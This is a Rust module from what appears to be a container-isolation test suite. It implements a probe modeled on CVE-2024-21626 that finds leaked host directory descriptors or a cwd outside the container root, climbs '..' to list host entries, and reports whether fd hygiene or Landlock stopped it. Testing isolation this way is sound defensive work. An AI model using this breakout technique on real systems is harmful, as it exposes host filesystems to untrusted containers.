//! **E18 CVE-2024-21626 shape.** Scans `/proc/self/fd` for directory fds outside the container
//! root (a runtime leaking a host fd) and checks whether the cwd is outside the root
//! (`getcwd` returning `(unreachable)`). From a leaked directory fd, walks `..` to show host
//! entries. Stopped by: fd hygiene (CLOEXEC/close_range) and cwd verification in the runtime (F),
//! Landlock.

use crate::outcome::Layer;
use crate::{sys, Ctx, Outcome, Technique};
use std::os::fd::AsRawFd;

pub const T: Technique = Technique {
    id: "leaked-fds-cwd",
    eid: "E18",
    title: "leaked host directory fds / cwd outside the root",
    layers: "F, L",
    run,
};

fn raw_getcwd() -> String {
    let mut buf = vec![0u8; 4096];
    // SAFETY: the kernel's getcwd writes at most buf.len() bytes.
    let n = unsafe { libc::syscall(libc::SYS_getcwd, buf.as_mut_ptr(), buf.len()) };
    if n <= 0 {
        return String::new();
    }
    let end = buf.iter().position(|b| *b == 0).unwrap_or(n as usize);
    String::from_utf8_lossy(&buf[..end]).into_owned()
}

/// Climb `..` from `fd` and list what is there. `Err(errno)` when the host side cannot be read
/// through the fd (an LSM such as Landlock refuses the open or the listing).
fn walk_up(fd: i32) -> Result<String, i32> {
    let dotdot = sys::cstr("..");
    let mut cur = fd;
    let mut opened = Vec::new();
    for _ in 0..16 {
        // SAFETY: openat relative to a directory fd we hold.
        let n = unsafe {
            libc::openat(
                cur,
                dotdot.as_ptr(),
                libc::O_RDONLY | libc::O_DIRECTORY | libc::O_CLOEXEC,
            )
        };
        if n < 0 {
            break;
        }
        opened.push(n);
        cur = n;
    }
    let first_error = if opened.is_empty() { sys::errno() } else { 0 };
    let readable = std::fs::read_dir(format!("/proc/self/fd/{cur}"));
    let s = sys::list_dir(format!("/proc/self/fd/{cur}"), 8);
    for n in opened {
        // SAFETY: closing fds we opened above.
        unsafe { libc::close(n) };
    }
    match readable {
        Ok(_) => Ok(s),
        Err(e) => Err(e.raw_os_error().unwrap_or(if first_error != 0 {
            first_error
        } else {
            libc::EACCES
        })),
    }
}

fn run(_ctx: &Ctx) -> Outcome {
    let mut fds: Vec<i32> = match std::fs::read_dir("/proc/self/fd") {
        Ok(rd) => rd
            .flatten()
            .filter_map(|e| e.file_name().to_string_lossy().parse().ok())
            .collect(),
        Err(e) => return Outcome::na(format!("no /proc/self/fd ({e})")),
    };
    fds.sort();
    let mut escapes = Vec::new();
    let mut strange = Vec::new();
    // Host directories reached through a leaked fd whose contents an LSM refused to show.
    let mut refused: Vec<(i32, String)> = Vec::new();
    for fd in fds {
        if fd <= 2 {
            continue;
        }
        let Ok(link) = std::fs::read_link(format!("/proc/self/fd/{fd}")) else {
            continue;
        };
        let Ok(st) = sys::fstat(fd) else { continue };
        let link_s = link.display().to_string();
        if !link_s.starts_with('/') {
            continue; // pipes, sockets, anon inodes
        }
        let inside = sys::stat(&link)
            .map(|s| sys::dev_ino(&s) == sys::dev_ino(&st))
            .unwrap_or(false);
        if inside {
            continue;
        }
        if st.st_mode & libc::S_IFMT == libc::S_IFDIR {
            match walk_up(fd) {
                Ok(up) => escapes.push(format!(
                    "fd {fd} -> {link_s} (outside root; ../ holds {up})"
                )),
                Err(e) => refused.push((e, format!("fd {fd} -> {link_s}"))),
            }
        } else {
            strange.push(format!("fd {fd} -> {link_s}"));
        }
    }
    let cwd = raw_getcwd();
    if cwd.starts_with("(unreachable)") {
        let here = sys::open(".", libc::O_RDONLY | libc::O_DIRECTORY);
        match here.map(|h| walk_up(h.as_raw_fd())) {
            Ok(Ok(up)) => escapes.push(format!("cwd {cwd} is outside the root; ../ holds {up}")),
            Ok(Err(e)) => refused.push((e, format!("cwd {cwd}"))),
            Err(e) => refused.push((e, format!("cwd {cwd}"))),
        }
    }
    if !escapes.is_empty() {
        return Outcome::escaped(escapes.join("; "));
    }
    if let Some((e, _)) = refused.first() {
        let what: Vec<&str> = refused.iter().map(|(_, w)| w.as_str()).collect();
        return Outcome::blocked(
            *e,
            Layer::Lsm,
            format!(
                "host directories reachable by fd but unreadable ({}): {}",
                crate::errno_name(*e),
                what.join(", ")
            ),
        );
    }
    if !strange.is_empty() {
        return Outcome::exposed(format!(
            "non-directory fds from outside the root: {}",
            strange.join(", ")
        ));
    }
    Outcome::blocked_by(
        Layer::FdHygiene,
        format!("no fd outside the root; cwd {cwd}"),
    )
}
